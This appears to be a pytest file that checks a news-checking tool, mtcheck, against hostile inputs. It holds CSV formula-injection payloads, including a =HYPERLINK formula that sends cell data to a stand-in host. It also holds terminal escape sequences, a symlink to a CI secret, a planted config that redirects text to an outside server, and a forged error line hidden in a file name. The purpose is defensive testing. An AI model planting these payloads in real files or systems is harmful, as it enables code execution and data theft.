"""What an article, a file name, a feed, a folder or a parent folder can make mtcheck do (issue 24).

Each test builds a tree of hostile inputs with the ``hostile`` fixture (good articles beside the
hostile one) and asserts the documented exit code, one line on stderr, that nothing is executed
or leaked, and that the other inputs are still reported. No model is loaded: ``check`` runs the
real loading with a stand-in detector that flags sentences naming Reuters, ``audit`` the stand-in
pipeline of tests/test_audit_helpers.py.

Security: 1 CSV formulas, 2 terminal escapes, 3 symbolic links out of the folder, 4 other users'
config files and text sent over the network. Reliability: 5 file names that are not UTF-8, 6 lone
surrogates in a feed, 7 workers outliving their driver, 8 a stalled LanguageTool server, 9
unbounded reads, 10 binary feed text, 11 deep JSON nesting, 12 a FIFO as the audit source,
13 newlines in file names; and the error hints that pointed the wrong way.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest

import mtcheck.pipeline as pipeline_module
from conftest import ROOT, ReutersFlaggingPipeline, error_line, run_main
from mtcheck import console
from mtcheck.audit.run import AuditOptions, run_audit
from mtcheck.audit.shards import read_records
from mtcheck.audit.sources import scan_source
from mtcheck.audit.worker import AuditWorker, WorkerConfig
from mtcheck.config import Settings
from mtcheck.csvfile import FORMULA_PREFIXES, csv_text, safe_cell
from mtcheck.errors import InputError, LanguageToolError, ModelError
from mtcheck.pipeline import CheckOptions
from test_audit_helpers import FAKE, write_jsonl
from test_trust_helpers import SLOW

TESTS = Path(__file__).resolve().parent
OPTIONS = CheckOptions(rewrite=False, languagetool=False, keep_going=True)
LIGHT = ("--no-rewrite", "--no-languagetool", "--quiet")
GOOD = "As reports Reuters, the talks ended on Monday without an agreement. The sides will meet again next week."
OTHER = "The ministry published its figures on Tuesday. Officials declined to comment further."
SECRET = "SECRET-TOKEN-4711"
ESCAPES = ("\x1b[2J", "\x1b[H", "\x1b]0;pwned\x07")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


# --------------------------------------------------------------------------- the hostile tree


@pytest.fixture
def hostile(tmp_path):
    """``hostile(*kinds)``: a folder ``copy/`` of two good articles plus the hostile inputs named,
    and a secret beside it that no report may ever contain. Returns the folder."""

    def build(*kinds: str) -> Path:
        copy = tmp_path / "copy"
        copy.mkdir(exist_ok=True)
        (copy / "good.txt").write_text(GOOD, encoding="utf-8")
        (copy / "other.txt").write_text(OTHER, encoding="utf-8")
        secret = tmp_path / "runner" / "token.txt"
        secret.parent.mkdir(exist_ok=True)
        secret.write_text(f"{SECRET} is what the CI runner keeps here. As reports Reuters, it must stay here.", encoding="utf-8")
        for kind in kinds:
            if kind == "escape":  # an article that clears the screen and retitles the window
                (copy / "escape.txt").write_text(f"{OTHER} {OTHER} The minister spoke. As reports Reuters,{ESCAPES[0]}{ESCAPES[1]} "
                                                 f"the talks {ESCAPES[2]}ended. {OTHER} {OTHER}", encoding="utf-8")
            elif kind == "escape-name":  # an unreadable (empty) file whose name carries an escape sequence
                (copy / "esc\x1b]0;pwned\x07.txt").write_text("", encoding="utf-8")
            elif kind == "link-out":  # a link to a file outside the folder
                (copy / "leak.txt").symlink_to(secret)
            elif kind == "link-in":  # a link to a file inside the folder: kept
                (copy / "again.txt").symlink_to(copy / "other.txt")
            elif kind == "bad-name":  # a name that is not UTF-8
                fd = os.open(os.fsencode(copy) + b"/bad\xff.txt", os.O_WRONLY | os.O_CREAT, 0o644)
                os.write(fd, OTHER.encode())
                os.close(fd)
            elif kind == "newline-name":  # an empty file: its error must stay one line
                (copy / "new\nmtcheck: error: fake.txt").write_text("", encoding="utf-8")
            elif kind == "formula-name":
                (copy / "=cmd|' calc'!A0.txt").write_text(OTHER, encoding="utf-8")
            else:
                raise ValueError(kind)
        return copy

    return build


@pytest.fixture
def check(monkeypatch, capsys, tmp_path):
    """``check(*args)`` -> (exit code, stdout, stderr lines) of ``mtcheck check`` with the stand-in detector."""
    monkeypatch.setattr(pipeline_module, "Pipeline", ReutersFlaggingPipeline)
    monkeypatch.chdir(tmp_path)

    def run(*args: str) -> tuple[int, str, list[str]]:
        # The sentence gate: exit 1 on the stand-in's flags, whatever the article gate makes of them.
        code, out, err = run_main(monkeypatch, capsys, "check", *args, *LIGHT, "--gate", "sentence")
        assert "Traceback" not in err and "internal error" not in err, err
        return code, out, [line for line in err.splitlines() if line.strip()]

    return run


def audit(source, out, **kw):
    options = AuditOptions(factory=FAKE, workers=1, shard_size=kw.pop("shard_size", 4), chunk_size=2, **kw)
    return run_audit(source, out, Settings(), OPTIONS, options)


def csv_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)


@pytest.fixture(autouse=True)
def fresh_notes():
    """Each test sees its own once-per-run notes and warnings."""
    saved = set(console._said)
    console._said.clear()
    yield
    console._said.clear()
    console._said.update(saved)


# --------------------------------------------------------------------------- 1. formulas in CSV

HOSTILE_ROWS = [
    {"id": '=HYPERLINK("http://x.example/?"&A1,"open")', "source": "+SUM(1,2)", "url": "@SUM(A1)", "date": "2024-05-03", "text": GOOD},
    {"id": "-2+3", "source": "\tTAB", "url": "=1+1", "date": "2024-05-04", "text": OTHER + " As reports Reuters, more."},
    {"id": "\rCR", "source": "=cmd|' /C calc'!A0", "url": "-x", "text": "   "},  # empty: errors.csv
    {"id": "plain", "source": "wire", "text": GOOD},
]


@pytest.fixture(scope="module")
def hostile_audit(tmp_path_factory):
    """One audit of a feed whose ids, sources and URLs start like formulas, and one of a tree
    whose top folder (the source) and file names do."""
    base = tmp_path_factory.mktemp("csv")
    feed = write_jsonl(HOSTILE_ROWS, base / "feed.jsonl")
    audit(feed, base / "feed-out")
    tree = base / "tree"
    (tree / "=cmd|' calc'!A0").mkdir(parents=True)
    (tree / "=cmd|' calc'!A0" / "@story.txt").write_text(GOOD, encoding="utf-8")
    (tree / "=cmd|' calc'!A0" / "+empty.txt").write_text("", encoding="utf-8")
    (tree / "wire").mkdir()
    (tree / "wire" / "story.txt").write_text(OTHER, encoding="utf-8")
    audit(tree, base / "tree-out")
    return base


def test_a_cell_that_starts_like_a_formula_is_quoted_and_numbers_are_left_alone():
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "a=b", 0.5, 3, None)] == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\nx", "plain", "a=b", 0.5, 3, None]  # a lone CR would end the row
    assert csv_text(["a", "=b"], [["=c", 1.25], ["x\ry", "z"]]) == "a,'=b\n'=c,1.25\n\"x\ny\",z\n"
    assert list(csv.reader(io.StringIO(csv_text(["id"], [["\rCR"], ["next"]])))) == [["id"], ["'\nCR"], ["next"]]


@pytest.mark.parametrize("name", ["summary.csv", "top.csv", "errors.csv"])
def test_every_csv_of_a_feed_audit_holds_no_live_formula(hostile_audit, name):
    rows = csv_rows(hostile_audit / "feed-out" / name)
    assert_no_live_formula(rows)
    cells = {cell for row in rows for cell in row}
    expected = {
        "summary.csv": {"'+SUM(1,2)", "'\tTAB", "'=cmd|' /C calc'!A0", "wire"},
        "top.csv": {"'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(A1)", "'-2+3", "'=1+1", "plain"},
        "errors.csv": {"'\nCR", "'=cmd|' /C calc'!A0"},
    }[name]
    assert expected <= cells  # the values are all there, quoted, not dropped


@pytest.mark.parametrize("name", ["summary.csv", "top.csv", "errors.csv"])
def test_every_csv_of_a_tree_audit_holds_no_live_formula(hostile_audit, name):
    rows = csv_rows(hostile_audit / "tree-out" / name)
    assert_no_live_formula(rows)
    text = (hostile_audit / "tree-out" / name).read_text(encoding="utf-8")
    assert "'=cmd|' calc'!A0" in text  # the folder is the source, the file names are the ids
    assert "wire" in text or name == "errors.csv"


def test_the_project_writes_csv_in_one_place_only():
    """Every CSV writer goes through mtcheck/csvfile.py (a new one would escape the rule)."""
    writers = [str(p.relative_to(ROOT)) for p in (ROOT / "mtcheck").rglob("*.py")
               if "csv.writer" in p.read_text(encoding="utf-8") or "csv.DictWriter" in p.read_text(encoding="utf-8")]
    assert writers == ["mtcheck/csvfile.py"]


# --------------------------------------------------------------------------- 2. terminal escapes


def test_control_characters_are_shown_one_for_one():
    text = "a\x1b[2Jb\x07c\x9bd\x7fe\nf\tg\udcff"
    shown = console.printable(text)
    assert len(shown) == len(text) and CONTROL.search(shown) is None and "\udcff" not in shown
    assert shown == "a\u241b[2Jb\u2407c\ufffdd\u2421e\u240af\u2409g\ufffd"
    assert console.printable(text, keep="\n\t") == "a\u241b[2Jb\u2407c\ufffdd\u2421e\nf\tg\ufffd"


def test_an_article_cannot_drive_the_terminal_through_the_text_view(hostile, check):
    copy = hostile("escape")
    code, out, err = check(str(copy), "-f", "text")
    assert code == 1 and err == []
    assert "\x1b" not in out and "\x07" not in out
    assert "\u241b[2J" in out and "\u241b]0;pwned\u2407" in out  # shown, not obeyed
    assert "copy/good.txt" in out and "copy/other.txt" in out  # the other inputs are reported


def test_in_colour_the_only_escape_sequences_are_the_views_own_styles(hostile):
    from mtcheck.load import load_document
    from mtcheck.report import ReportOptions, render
    from mtcheck.segment import segment

    path = str(hostile("escape") / "escape.txt")
    document = load_document(path)
    result = ReutersFlaggingPipeline.check_document(None, document, segment(document))
    out = render([result], "text", ReportOptions(color=True, width=200))
    assert "\x1b[" in out  # colours are on
    assert "\x1b" not in re.sub(r"\x1b\[[0-9;]*m", "", out)  # and nothing else
    assert "\x07" not in out


def test_an_error_line_a_warning_and_the_progress_line_show_escapes_without_obeying_them(hostile, check, capsys):
    copy = hostile("escape-name")
    code, out, err = check(str(copy), "-f", "json")
    assert code == 2
    line = error_line("\n".join(err))
    assert "\x1b" not in line and "\x07" not in line and "esc\u241b]0;pwned\u2407.txt" in line
    assert {d["path"] for d in json.loads(out)["documents"]} == {str(copy / "good.txt"), str(copy / "other.txt")}

    console.warning("a file called \x1b[2J.txt")
    assert capsys.readouterr().err == "mtcheck: warning: a file called \u241b[2J.txt\n"

    from rich.console import Console

    from mtcheck.cli.check import ProgressLine

    progress = ProgressLine(Console(file=io.StringIO()), delay=3600)
    progress("copy/\x1b]0;pwned\x07.txt: detecting (3 sentences)")
    assert "\x1b" not in progress.__rich__().plain and "\u241b]0;pwned\u2407" in progress.__rich__().plain
    progress.stop()


# --------------------------------------------------------------------------- 3. links out of the folder


def test_a_link_out_of_the_folder_is_skipped_with_one_warning(hostile, check, tmp_path):
    copy = hostile("link-out", "link-in")
    code, out, err = check(str(copy), "-f", "json")
    assert code == 1  # the findings of the good article; nothing failed
    assert err == [f"mtcheck: warning: skipped 1 symbolic link leading out of the folder: {copy / 'leak.txt'} (--follow-links reads them)"]
    assert SECRET not in out
    paths = {d["path"] for d in json.loads(out)["documents"]}
    assert paths == {str(copy / n) for n in ("good.txt", "other.txt", "again.txt")}  # a link inside the folder is kept

    code, out, err = check(str(copy), "-f", "json", "--follow-links")
    assert code == 1 and err == [] and SECRET in out  # asked for: read


def test_an_audit_of_a_tree_skips_links_out_of_it_too(hostile, tmp_path, capsys):
    copy = hostile("link-out")
    skipped: list[str] = []
    assert [r.id for r in scan_source(copy, skipped=skipped).refs] == ["good.txt", "other.txt"]
    assert skipped == [str(copy / "leak.txt")]
    outcome = audit(copy, tmp_path / "out")
    assert outcome.articles == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("mtcheck: warning: skipped 1 symbolic link leading out of the folder")
    assert not any(SECRET in p.read_text(encoding="utf-8") for p in (tmp_path / "out").rglob("*") if p.is_file())
    assert [r.id for r in scan_source(copy, follow_links=True).refs] == ["good.txt", "leak.txt", "other.txt"]


# --------------------------------------------------------------------------- 4. other users' config, text sent away


@pytest.fixture
def foreign(monkeypatch):
    """``foreign(path)`` makes ``path`` belong to another user (chown as root, else pretend)."""

    def make(path: Path) -> None:
        if os.geteuid() == 0:
            os.chown(path, 65534, 65534)
        else:
            import mtcheck.config as config_module

            monkeypatch.setattr(config_module, "trusted_owners", lambda: {os.geteuid() + 1, 0})

    return make


def test_a_config_file_of_another_user_in_a_parent_folder_is_ignored_with_one_warning(tmp_path, monkeypatch, capsys, foreign, check):
    from mtcheck.config import load_settings

    shared = tmp_path / "shared"
    work = shared / "desk"
    work.mkdir(parents=True)
    planted = shared / "mtcheck.toml"
    planted.write_text('[rewrite]\nbackend = "openai"\nbase_url = "http://collector.example/v1"\n', encoding="utf-8")
    foreign(planted)
    monkeypatch.chdir(work)
    settings = load_settings()
    assert settings.config_path is None and settings.rewrite_config.base_url is None  # nothing of it is used
    err = capsys.readouterr().err
    assert err == f"mtcheck: warning: ignoring {planted}: it belongs to another user (uid {planted.stat().st_uid}); " \
                  "pass it with --config to use it\n"
    assert load_settings(planted).rewrite_config.base_url == "http://collector.example/v1"  # named on purpose: read

    (work / "a.txt").write_text(GOOD, encoding="utf-8")
    monkeypatch.chdir(work)
    console._said.clear()
    code, out, lines = check("a.txt", "-f", "json")
    assert code == 1 and len(lines) == 1 and lines[0].startswith("mtcheck: warning: ignoring ")
    assert json.loads(out)["documents"][0]["path"] == "a.txt"


def test_a_pyproject_of_another_user_without_mtcheck_settings_says_nothing(tmp_path, capsys, foreign):
    from mtcheck.config import find_config

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "theirs"\n', encoding="utf-8")
    foreign(tmp_path / "pyproject.toml")
    (tmp_path / "sub").mkdir()
    assert find_config(tmp_path / "sub") != tmp_path / "pyproject.toml"
    own = tmp_path / "sub" / "mtcheck.toml"
    own.write_text("threshold = 0.8\n", encoding="utf-8")
    assert find_config(tmp_path / "sub") == own
    assert capsys.readouterr().err == ""  # another project's file is none of mtcheck's business


class _Stub(BaseHTTPRequestHandler):
    """A LanguageTool server that answers its health check and stalls on /v2/check, or an
    OpenAI-compatible chat server; it counts the requests it gets."""

    stall = 3.0
    hits: dict[str, int] = {}

    def log_message(self, *args):  # quiet
        pass

    def _json(self, data) -> None:
        body = json.dumps(data).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.hits[self.path] = self.hits.get(self.path, 0) + 1
        if self.path.startswith("/v2/languages"):
            self._json([{"name": "English (US)", "code": "en", "longCode": "en-US"}, {"name": "Russian", "code": "ru", "longCode": "ru-RU"}])
        else:
            self.send_error(404)

    def do_POST(self):
        self.hits[self.path] = self.hits.get(self.path, 0) + 1
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path.startswith("/v2/check"):
            time.sleep(self.stall)
            try:
                self._json({"matches": []})
            except OSError:
                pass
        elif self.path.endswith("/chat/completions"):
            self._json({"choices": [{"message": {"content": "The talks ended."}}]})
        else:
            self.send_error(404)


@pytest.fixture
def stub_server():
    handler = type("Handler", (_Stub,), {"hits": {}})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", handler.hits
    server.shutdown()
    server.server_close()


def test_text_sent_to_a_rewrite_server_is_announced_once_with_where(stub_server, capsys):
    from mtcheck.rewrite.backends.openai_http import OpenAIBackend

    url, hits = stub_server
    backend = OpenAIBackend(Settings(tables={"rewrite": {"backend": "openai", "base_url": f"{url}/v1"}}))
    prompt = SimpleNamespace(messages=lambda: [{"role": "user", "content": "As reports Reuters."}])
    assert backend.generate([prompt, prompt]) == [["The talks ended."], ["The talks ended."]]
    assert hits == {"/v1/chat/completions": 2}
    err = capsys.readouterr().err
    assert err == f"mtcheck: note: sending article text to the rewrite server (openai backend) at {url}/v1 " \
                  '(see README, "Security model")\n'


def test_a_languagetool_server_elsewhere_is_announced_and_one_on_this_machine_is_not(capsys):
    from mtcheck.services import egress
    from mtcheck.services.languagetool import LanguageToolService

    class Tool:
        def check(self, text):
            return []

    for url, said in (("http://lt.newsroom.example:8010", True), ("http://127.0.0.1:8081", False), ("http://localhost:8010", False)):
        service = LanguageToolService(url=url)
        service._tool = Tool()
        assert service.check_paragraphs(["One paragraph.", "Another."]) == [[], []]
        assert (capsys.readouterr().err != "") is said, url
    assert not egress.is_loopback("http://user:pw@10.0.0.5:80") and egress.is_loopback("http://[::1]:80")
    settings = Settings(tables={"rewrite": {"backend": "openai", "base_url": "http://user:secret@gpu.example/v1"},
                                "languagetool": {"url": "http://lt.example:8010"}})
    assert egress.destinations(settings, languagetool=True, languagetool_url=None, rewrite=True, backend=None) == [
        ("the LanguageTool server", "http://lt.example:8010"), ("the rewrite server (openai backend)", "http://user:secret@gpu.example/v1")]
    assert egress.destinations(settings, languagetool=False, languagetool_url=None, rewrite=False, backend=None) == []
    egress.announce_run(settings, languagetool=False, languagetool_url=None, rewrite=True, backend=None)
    assert "secret" not in capsys.readouterr().err  # where, without the password


def test_an_audit_announces_its_destinations_once_for_all_its_workers(tmp_path, capsys):
    feed = write_jsonl([{"id": f"a{i}", "text": OTHER} for i in range(4)], tmp_path / "feed.jsonl")
    settings = Settings(tables={"rewrite": {"backend": "openai", "base_url": "http://gpu.example/v1"}})
    options = CheckOptions(rewrite=True, languagetool=False, keep_going=True)
    run_audit(feed, tmp_path / "out", settings, options, AuditOptions(factory=FAKE, workers=2, shard_size=2, chunk_size=1))
    err = capsys.readouterr().err
    assert err == 'mtcheck: note: sending article text to the rewrite server (openai backend) at http://gpu.example/v1 ' \
                  '(see README, "Security model")\n'


# --------------------------------------------------------------------------- 5. names that are not UTF-8


def test_a_file_name_that_is_not_utf8_is_an_error_entry_and_the_others_are_checked(hostile, check):
    copy = hostile("bad-name")
    code, out, err = check(str(copy), "-f", "json")
    assert code == 2
    shown = f"{copy}/bad\\xff.txt"
    assert error_line("\n".join(err)) == f"mtcheck: error: {shown}: the file name is not valid UTF-8 (rename the file)"
    report = json.loads(out)
    assert report["errors"] == [{"path": shown, "message": f"{shown}: the file name is not valid UTF-8 (rename the file)"}]
    assert {d["path"] for d in report["documents"]} == {str(copy / "good.txt"), str(copy / "other.txt")}


def test_an_audit_with_such_a_name_finishes_and_resumes(hostile, tmp_path):
    copy = hostile("bad-name")
    first = audit(copy, tmp_path / "out", shard_size=1)
    assert (first.articles, first.errors) == (3, 1)
    (tmp_path / "out" / "shards" / "shard-000000.jsonl").unlink()  # the bad name's shard: checked again
    again = audit(copy, tmp_path / "out", shard_size=1)
    assert (again.checked_now, again.errors) == (1, 1)
    records = {r["id"]: r for r in read_records(tmp_path / "out")}
    assert records["bad\\xff.txt"]["error"] == f"{copy}/bad\\xff.txt: the file name is not valid UTF-8 (rename the file)"
    assert records["good.txt"]["error"] is None
    assert "bad\\xff.txt" in (tmp_path / "out" / "errors.csv").read_text(encoding="utf-8")


# --------------------------------------------------------------------------- 6. lone surrogates in a feed


@pytest.mark.parametrize("field", ["id", "source", "url", "text"])
def test_a_lone_surrogate_in_a_feed_is_refused_at_scan_time_with_its_line(tmp_path, monkeypatch, capsys, field):
    feed = tmp_path / "feed.jsonl"
    good = json.dumps({"id": "a", "text": GOOD})
    hostile = json.dumps({"id": "b", "text": OTHER, **{field: "x\ud800y"}})  # json.dumps writes it as \ud800
    feed.write_text(f"{good}\n{hostile}\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    code, out, err = run_main(monkeypatch, capsys, "audit", "feed.jsonl", "--out", "o", "--no-languagetool")
    assert code == 2
    assert error_line(err) == f'mtcheck: error: feed.jsonl:2: "{field}" holds a lone surrogate escape (\\ud800-\\udfff), which is not text'
    assert not (tmp_path / "o" / "manifest.json").exists()
    ok = tmp_path / "ok.jsonl"
    ok.write_text(json.dumps({"id": "emoji \ud83d\ude00", "text": GOOD}) + "\n", encoding="utf-8")  # a pair is text
    assert [r.id for r in scan_source(ok).refs] == ["emoji \U0001F600"]


# --------------------------------------------------------------------------- 7. workers die with their driver


def _gone(pid: int) -> bool:
    import psutil

    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


def _wait(condition, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.2)
    return condition()


DRIVER = """
import sys
sys.path[:0] = {paths!r}
from mtcheck.audit.run import AuditOptions, run_audit
from mtcheck.config import Settings
from mtcheck.pipeline import CheckOptions
run_audit({feed!r}, {out!r}, Settings(), CheckOptions(rewrite=False, languagetool=False, keep_going=True),
          AuditOptions(factory={factory!r}, workers=2, shard_size=1, chunk_size=1))
"""


def test_audit_workers_exit_when_their_driver_is_killed(tmp_path):
    feed = write_jsonl([{"id": f"a{i}", "text": OTHER} for i in range(6)], tmp_path / "feed.jsonl")
    pids = tmp_path / "pids"
    pids.mkdir()
    script = DRIVER.format(paths=[str(TESTS), str(ROOT)], feed=str(feed), out=str(tmp_path / "out"), factory=SLOW)
    env = {**os.environ, "MTCHECK_TEST_PIDS": str(pids), "PYTHONPATH": str(ROOT)}
    driver = subprocess.Popen([sys.executable, "-c", script], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        # The driver builds the stand-in once itself (for the detector's signature): its pid is there too.
        assert _wait(lambda: len([p for p in pids.iterdir() if int(p.name) != driver.pid]) == 2, 180), "the workers did not start"
        workers = [int(p.name) for p in pids.iterdir() if int(p.name) != driver.pid]
        assert not any(_gone(pid) for pid in workers)
        driver.send_signal(signal.SIGKILL)
        driver.wait()
        assert _wait(lambda: all(_gone(pid) for pid in workers), 60), "a worker outlived its driver"
    finally:
        driver.kill()
        for p in pids.iterdir():
            try:
                os.kill(int(p.name), signal.SIGKILL)
            except OSError:
                pass


WATCHED = """
import multiprocessing, os, sys, time
sys.path[:0] = {paths!r}

def child(driver, marker):
    from mtcheck.audit.local import exit_with_driver
    exit_with_driver(driver, parent_death_signal=False)
    open(marker, "w").write(str(os.getpid()))
    time.sleep(300)

if __name__ == "__main__":
    multiprocessing.get_context("spawn").Process(target=child, args=(os.getpid(), {marker!r})).start()
    time.sleep(300)
"""


def test_without_the_parent_death_signal_the_parent_pid_watch_ends_the_worker(tmp_path):
    marker = tmp_path / "child.pid"
    script = tmp_path / "parent.py"
    script.write_text(WATCHED.format(paths=[str(ROOT)], marker=str(marker)), encoding="utf-8")
    parent = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert _wait(lambda: marker.exists() and marker.read_text(), 120), "the child did not start"
        child = int(marker.read_text())
        parent.send_signal(signal.SIGKILL)
        parent.wait()
        assert _wait(lambda: _gone(child), 30), "the child outlived its parent"
    finally:
        parent.kill()
        if marker.exists() and marker.read_text():
            try:
                os.kill(int(marker.read_text()), signal.SIGKILL)
            except OSError:
                pass


# --------------------------------------------------------------------------- 8. a stalled LanguageTool server


def test_a_stalled_languagetool_server_fails_after_the_request_timeout_once(stub_server):
    from mtcheck.config_tables import LanguageToolConfig
    from mtcheck.services.languagetool import LanguageToolService

    assert LanguageToolConfig().request_timeout == 30.0
    url, hits = stub_server  # it answers a check after 3 s
    settings = Settings(tables={"languagetool": {"request_timeout": 0.5, "start_timeout": 0.5}})
    service = LanguageToolService(settings, url=url)
    with pytest.raises(LanguageToolError) as raised:
        service.check_paragraphs(["The talks ended on Monday."])
    assert raised.value.exit_code == 3
    assert f"LanguageTool at {url} did not answer a check within 0.5 s" in str(raised.value)
    assert "raise [languagetool] request_timeout" in str(raised.value)
    assert hits.get("/v2/check") == 1  # not asked twice

    # The first check may take start_timeout (the server loads its rules); the next ones may not.
    hits.clear()
    warming = LanguageToolService(Settings(tables={"languagetool": {"request_timeout": 0.5, "start_timeout": 60.0}}), url=url)
    assert warming.check_paragraphs(["The talks ended on Monday."]) == [[]]
    with pytest.raises(LanguageToolError, match="did not answer a check within 0.5 s"):
        warming.check_paragraphs(["The sides will meet again."])
    assert hits.get("/v2/check") == 2


# --------------------------------------------------------------------------- 9. unbounded reads


def test_config_and_baseline_from_devices_or_fifos_are_refused(hostile, check, tmp_path):
    copy = hostile()
    fifo = tmp_path / "settings.toml"
    os.mkfifo(fifo)
    for args, message in (
        (["--config", "/dev/zero"], "refusing to read config file /dev/zero: not a regular file (a device, FIFO or socket)"),
        (["--config", str(fifo)], f"refusing to read config file {fifo}: not a regular file"),
        (["--baseline", "/dev/zero"], "refusing to read baseline /dev/zero: not a regular file"),
    ):
        code, out, err = check(str(copy), *args)
        assert code == 2 and out == ""
        assert message in error_line("\n".join(err))
    big = tmp_path / "big.toml"
    big.write_bytes(b"# padding\n" * 200_000)
    code, _, err = check(str(copy), "--config", str(big))
    assert code == 2 and "more than the 1,000,000 allowed" in error_line("\n".join(err))


def test_a_detector_model_path_to_a_device_is_refused_with_the_right_hint(tmp_path, monkeypatch, capsys):
    (tmp_path / "a.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "mtcheck.toml").write_text('[detect]\nmodel = "/dev/zero"\n', encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    code, out, err = run_main(monkeypatch, capsys, "check", "a.txt", *LIGHT)
    assert code == 3
    line = error_line(err)
    assert "refusing to read detector model /dev/zero: not a regular file" in line
    assert "[detect] model" in line and "mtcheck train" not in line


# --------------------------------------------------------------------------- 10. binary text in a feed


def test_binary_text_in_a_feed_is_refused_by_the_rule_check_dash_uses(tmp_path):
    from mtcheck.load import load_document

    binary = "\x00\x01\x02\x03\x04\x05\x06 As reports Reuters \x0e\x0f\x10\x11"
    feed = write_jsonl([{"id": "good", "text": GOOD}, {"id": "bin", "text": binary}], tmp_path / "feed.jsonl")
    worker = AuditWorker(WorkerConfig(Settings(), OPTIONS, factory=FAKE), warm_up=False)
    records = {r["id"]: r for _, r in worker.check(scan_source(feed).refs)}
    assert records["good"]["error"] is None
    with pytest.raises(InputError) as stdin_error:
        load_document("-", stdin=io.BytesIO(binary.encode("utf-8")))
    assert records["bin"]["error"] == str(stdin_error.value).replace("standard input", "bin")
    assert "looks like a binary file" in records["bin"]["error"]


# --------------------------------------------------------------------------- 11. deep nesting


def test_a_deeply_nested_json_line_is_not_a_json_line(tmp_path, monkeypatch, capsys):
    nested = '{"id": "b", "text": "x", "deep": ' + "[" * 200_000 + "]" * 200_000 + "}"
    (tmp_path / "feed.jsonl").write_text(json.dumps({"id": "a", "text": GOOD}) + "\n" + nested + "\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    code, _, err = run_main(monkeypatch, capsys, "audit", "feed.jsonl", "--out", "o", "--no-languagetool")
    assert code == 2 and error_line(err) == "mtcheck: error: feed.jsonl:2: not a JSON line"
    (tmp_path / "a.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "base.json").write_text('{"version": 1, "findings": ' + "[" * 200_000 + "]" * 200_000 + "}", encoding="utf-8")
    code, _, err = run_main(monkeypatch, capsys, "check", "a.txt", "--baseline", "base.json", *LIGHT)
    assert code == 2 and "baseline base.json is not an mtcheck baseline (nested too deeply)" in error_line(err)
    (tmp_path / "deep.toml").write_text("a = " + "[" * 200_000 + "]" * 200_000 + "\n", encoding="utf-8")
    code, _, err = run_main(monkeypatch, capsys, "check", "a.txt", "--config", "deep.toml", *LIGHT)
    assert code == 2 and error_line(err) == "mtcheck: error: deep.toml: invalid TOML: arrays or tables nested too deeply"


# --------------------------------------------------------------------------- 12. a FIFO as the audit source


def test_a_fifo_as_the_audit_source_is_refused_before_a_manifest_is_written(tmp_path, monkeypatch, capsys):
    os.mkfifo(tmp_path / "feed.jsonl")
    monkeypatch.chdir(tmp_path)
    code, out, err = run_main(monkeypatch, capsys, "audit", "feed.jsonl", "--out", "o", "--no-languagetool")
    assert code == 2 and out == ""
    assert error_line(err) == ("mtcheck: error: feed.jsonl: not a regular file (a FIFO, device or socket cannot be audited or resumed) "
                               "(save the feed to a file first)")
    assert not (tmp_path / "o" / "manifest.json").exists()


# --------------------------------------------------------------------------- 13. newlines in names


def test_a_newline_in_a_file_name_cannot_fake_a_second_error_line(hostile, check):
    copy = hostile("newline-name")
    code, out, err = check(str(copy), "-f", "text")
    assert code == 2
    line = error_line("\n".join(err))  # one line, though the name holds "\nmtcheck: error: "
    assert "new\u240amtcheck: error: fake.txt" in line
    assert not any(row.startswith("mtcheck: error: fake.txt") for row in out.splitlines())
    assert f"{copy}/new\u240amtcheck: error: fake.txt  not checked" in out
    assert f"{copy}/good.txt" in out and f"{copy}/other.txt" in out


# --------------------------------------------------------------------------- hints that pointed the wrong way


def test_hints_name_what_the_user_can_fix(tmp_path, monkeypatch):
    from mtcheck.detect.classifier import load_model
    from mtcheck.services.languagetool import LanguageToolService
    from mtcheck.services.modelstore import ModelStore
    from mtcheck.services.modelstore.store import fix_for_model

    with pytest.raises(ModelError) as raised:
        load_model(tmp_path / "missing.json")
    assert "mtcheck train" not in str(raised.value) and "[detect] model" in str(raised.value)

    mine = tmp_path / "rewriter.bin"
    mine.write_bytes(b"x")
    assert fix_for_model(mine) == "fix the model path given with --model, [models] or [rewrite] model in the config"
    assert fix_for_model(ModelStore.default().root / "some-model.gguf") == "mtcheck models pull"
    from mtcheck.rewrite.backends.llama_cpp import LlamaCppBackend

    with pytest.raises(ModelError) as raised:
        LlamaCppBackend(Settings(tables={"rewrite": {"model": str(tmp_path)}}))
    assert "models pull" not in str(raised.value) and "[rewrite] model" in str(raised.value)

    config = tmp_path / "mtcheck.toml"
    config.write_text('[languagetool]\nurl = "http://127.0.0.1:9"\n', encoding="utf-8")
    from mtcheck.config import load_settings

    with pytest.raises(LanguageToolError) as raised:
        LanguageToolService(load_settings(config)).ensure_running()
